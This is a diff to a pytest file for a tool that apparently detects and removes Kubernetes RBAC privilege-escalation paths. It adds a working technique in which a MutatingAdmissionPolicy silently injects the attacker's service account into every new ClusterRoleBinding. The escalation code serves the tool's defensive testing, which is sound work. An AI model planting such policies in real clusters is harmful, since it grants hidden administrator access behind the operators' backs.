@@ -40,6 +40,7 @@ from ostiary.verifier import verify
 
 API, RBAC = "rbac.authorization.k8s.io/v1", "rbac.authorization.k8s.io"
 BINDINGS = f"/apis/{API}/clusterrolebindings"
+ADMISSION = "admissionregistration.k8s.io"
 CSR = "certificatesigningrequests.certificates.k8s.io"
 KING = "system:serviceaccount:castle:king"
 CROWN = RbacPolicy(
@@ -88,7 +89,7 @@ class Actor(NamedTuple):
 
     wide: str
     narrow: str
-    way: Callable[[Server, str, str, Any], Answer] | None
+    way: Callable[[Server, str, str, Any], Answer]
 
 
 def crown_for(name: str) -> dict[str, Any]:
@@ -202,6 +203,37 @@ def has_a_certificate_made(server: Server, me: str, token: str, directory: Any) 
     return server.ask("POST", BINDINGS, crown_for(me), pair=str(pair))
 
 
+def weaves_itself_in(server: Server, me: str, token: str, administrator: Any) -> Answer:
+    """A policy that puts one more subject into every new ClusterRoleBinding; then an administrator, suspecting nothing, makes one for somebody else."""
+    base, group = "/apis/admissionregistration.k8s.io/v1", "admissionregistration.k8s.io/v1"
+    value = f'{{"kind": "ServiceAccount", "namespace": "actors", "name": "{me}"}}'
+    woven = f'[JSONPatch{{op: "add", path: "/subjects/-", value: {value}}}]'
+    rule = {"apiGroups": [RBAC], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["clusterrolebindings"]}
+    spec = {
+        "matchConstraints": {"resourceRules": [rule]},
+        "failurePolicy": "Fail",
+        "reinvocationPolicy": "Never",
+        "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": woven}}],
+    }
+    policy = {"apiVersion": group, "kind": "MutatingAdmissionPolicy", "metadata": {"name": me}, "spec": spec}
+    binding = {
+        "apiVersion": group,
+        "kind": "MutatingAdmissionPolicyBinding",
+        "metadata": {"name": me},
+        "spec": {"policyName": me},
+    }
+    server.ask("POST", f"{base}/mutatingadmissionpolicies", policy, token=token)
+    server.ask("POST", f"{base}/mutatingadmissionpolicybindings", binding, token=token)
+    answer = Answer(0, {})
+    for attempt in range(10):
+        administrator(crown_for(f"{me}-{attempt}"))
+        answer = server.ask("POST", BINDINGS, crown_for(me), token=token)
+        if answer.status == 201:
+            break
+        time.sleep(0.5)
+    return answer
+
+
 ACTORS = {
     "token": Actor("", "create serviceaccounts/token =king", asks_for_a_token),
     "forger": Actor("", "create,get secrets", forges_a_token_secret),
@@ -215,14 +247,20 @@ ACTORS = {
         "",
         has_a_certificate_made,
     ),
+    "weaver": Actor(
+        f"create mutatingadmissionpolicies.{ADMISSION}; create mutatingadmissionpolicybindings.{ADMISSION}",
+        "",
+        weaves_itself_in,
+    ),
     # who only looks like it
     "servant": Actor("", "create serviceaccounts/token =servant", asks_for_a_token),
     "writer": Actor(f"create clusterrolebindings.{RBAC}; update,patch clusterroles.{RBAC}", "", binds),
     "storer": Actor("", "create secrets", forges_a_token_secret),
     "reader": Actor("", "get secrets =other", finds_a_token_secret),
+    "apprentice": Actor(f"create mutatingadmissionpolicies.{ADMISSION}", "", weaves_itself_in),
     "clerk": Actor(f"update,get {CSR}/approval; create,get {CSR}", "", has_a_certificate_made),
 }
-GUILTY = ("token", "forger", "finder", "mimic", "masters", "binder", "escalator", "signer")
+GUILTY = ("token", "forger", "finder", "mimic", "masters", "binder", "escalator", "signer", "weaver")
 
 
 def objects() -> Iterator[dict[str, Any]]:
@@ -271,6 +309,19 @@ def tokens(cluster: RunningCluster) -> dict[str, str]:
     return {name: cluster.run("kubectl", "create", "token", name, "-n", "actors").stdout.strip() for name in ACTORS}
 
 
+def walk(cluster: RunningCluster, held: dict[str, str], directory: Any) -> dict[str, int]:
+    """What comes of everybody's attempt. The administrator that the weaver waits for uses the cluster's own kubeconfig."""
+    server = Server(cluster)
+
+    def administrator(binding: dict[str, Any]) -> None:
+        cluster.run("kubectl", "create", "-f", "-", stdin=json.dumps(binding))
+
+    return {
+        name: actor.way(server, name, held[name], administrator if actor.way is weaves_itself_in else directory).status
+        for name, actor in ACTORS.items()
+    }
+
+
 @pytest.mark.judge("guardrails")
 async def test_chains_that_are_found_can_be_walked_and_no_others(untouched: RunningCluster, tmp_path: Any) -> None:
     cluster, server = untouched, Server(untouched)
@@ -285,7 +336,7 @@ async def test_chains_that_are_found_can_be_walked_and_no_others(untouched: Runn
     held = tokens(cluster)
     before = {name: server.ask("POST", BINDINGS, crown_for(f"early-{name}"), token=held[name]).status for name in ACTORS}
     assert {name for name, status in before.items() if status != 403} == {"binder"}, before  # whose first step is the last
-    walked = {name: way(server, name, held[name], tmp_path).status for name, actor in ACTORS.items() if (way := actor.way)}
+    walked = walk(cluster, held, tmp_path)
     assert {name for name, status in walked.items() if status == 201} == set(GUILTY), walked
 
     undo_deeds(cluster)
@@ -299,7 +350,7 @@ async def test_chains_that_are_found_can_be_walked_and_no_others(untouched: Runn
     assert isinstance(proof, Proof), proof
     assert verify(encode(proof.certificate), world=after.digest).claim == proof.claim
     await asyncio.sleep(1)  # the authorizer reads deletions a moment later
-    again = {name: way(server, name, held[name], tmp_path).status for name, actor in ACTORS.items() if (way := actor.way)}
+    again = walk(cluster, held, tmp_path)
     assert 201 not in again.values(), again
 
 
@@ -315,5 +366,6 @@ def undo_deeds(cluster: RunningCluster) -> None:
     deeds = [one for one in made if "/deed-" in one]
     cluster.run("kubectl", "delete", *deeds)
     cluster.run("kubectl", "delete", "csr", "--all")
+    cluster.run("kubectl", "delete", "mutatingadmissionpolicies,mutatingadmissionpolicybindings", "--all")
     cluster.run("kubectl", "delete", "secret", "-n", "castle", "forged-forger", "forged-storer", "--ignore-not-found")
     cluster.run("kubectl", "delete", "clusterrole", "wide-escalator")
